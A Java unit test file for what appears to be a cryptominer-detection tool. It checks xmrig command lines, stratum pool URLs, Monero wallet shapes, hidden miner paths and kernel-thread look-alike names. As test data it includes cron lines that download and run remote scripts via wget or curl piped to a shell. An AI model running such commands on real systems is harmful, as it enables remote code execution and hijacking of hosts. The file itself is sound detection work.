package dev.minewarden.host;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Miner traits in command lines, names and paths, and kernel-thread look-alikes. */
class MinerSignalsTest {
  private static final String WALLET = "4" + "A".repeat(94);

  private static List<String> signals(String cmd) {
    return MinerSignals.commandLine(Arrays.asList(cmd.split(" ")), cmd);
  }

  @Test
  void commandLine_xmrigFlags() {
    assertThat(signals("./xmrig -a rx/0 -o pool.example:3333 -u " + WALLET + " --donate-level=1 -k"))
        .contains("--donate-level", "--algo rx/0 with a pool URL", "Monero wallet address");
    assertThat(signals("/tmp/x --url=stratum+ssl://pool.example:443 --cpu-priority=5"))
        .contains("stratum+ssl://", "--cpu-priority");
  }

  @Test
  void commandLine_base64OfStratum() {
    assertThat(signals("sh -c echo c3RyYXR1bSt0Y3A6Ly9wb29s | base64 -d")).contains("c3ryyxr1bst0y3a6ly");
  }

  @Test
  void commandLine_ordinaryProgramsAreClean() {
    assertThat(signals("/usr/bin/python3 -m http.server 8000")).isEmpty();
    assertThat(signals("tar -a -o archive.tar.gz dir")).isEmpty();
    assertThat(signals("git log -a rx/0")).as("an algo without a pool URL").isEmpty();
  }

  @Test
  void stratumEndpoints_withUserAndPath() {
    assertThat(MinerSignals.stratumEndpoints("x -o stratum+tcp://w.1@Pool.Example:3333/x -o stratum2+ssl://10.0.0.1:443"))
        .containsExactly("pool.example:3333", "10.0.0.1:443");
    assertThat(MinerSignals.stratumEndpoints("stratum" + " stratum".repeat(10_000))).isEmpty();
  }

  @Test
  void wallet_shape() {
    assertThat(MinerSignals.isMoneroWallet(WALLET)).isTrue();
    assertThat(MinerSignals.isMoneroWallet("--user=" + WALLET + ".worker1")).isTrue();
    assertThat(MinerSignals.isMoneroWallet("4" + "0".repeat(94))).as("0 is not base58").isFalse();
    assertThat(MinerSignals.isMoneroWallet("4" + "A".repeat(93))).isFalse();
  }

  @Test
  void writableOrHidden_paths() {
    assertThat(MinerSignals.writableOrHidden("/dev/shm/x")).contains("/dev/shm/");
    assertThat(MinerSignals.writableOrHidden("/tmp/.X25-unix/.rsync/c/aptitude")).contains("/tmp/");
    assertThat(MinerSignals.writableOrHidden("/root/.configrc/a/kswapd0")).contains(".configrc");
    assertThat(MinerSignals.writableOrHidden("/memfd:x")).contains("memfd");
    assertThat(MinerSignals.writableOrHidden("/usr/bin/sleep")).isNull();
    assertThat(MinerSignals.writableOrHidden("/home/u/.local")).as("the file itself may be dotted").isNull();
  }

  @Test
  void names_minersAndKernelThreadLookAlikes() {
    assertThat(MinerSignals.isMinerName("XMRig")).isTrue();
    assertThat(MinerSignals.isMinerName("kdevtmpfsi")).isTrue();
    assertThat(MinerSignals.isMinerName("bash")).isFalse();
    assertThat(KernelThreadNames.looksLikeKernelThread("[kworker/0:2]")).isTrue();
    assertThat(KernelThreadNames.looksLikeKernelThread("[ext4]")).isTrue();
    assertThat(KernelThreadNames.looksLikeKernelThread("kswapd0")).isTrue();
    assertThat(KernelThreadNames.looksLikeKernelThread("kthreaddk")).isTrue();
    assertThat(KernelThreadNames.looksLikeKernelThread("mdadm")).isFalse();
    assertThat(KernelThreadNames.looksLikeKernelThread("irqbalance")).isFalse();
    assertThat(KernelThreadNames.looksLikeKernelThread("[")).isFalse();
  }

  @Test
  void cronDownload_lines() {
    assertThat(FileChecks.isDownloadAndRun("* * * * * wget -q -O - http://203.0.113.9/unk.sh | sh")).isTrue();
    assertThat(FileChecks.isDownloadAndRun("*/5 * * * * curl -fsSL http://x/a.sh|/bin/bash")).isTrue();
    assertThat(FileChecks.isDownloadAndRun("# * * * * * curl http://x | sh")).isFalse();
    assertThat(FileChecks.isDownloadAndRun("0 3 * * * curl -o /tmp/x http://x | logger")).isFalse();
  }
}
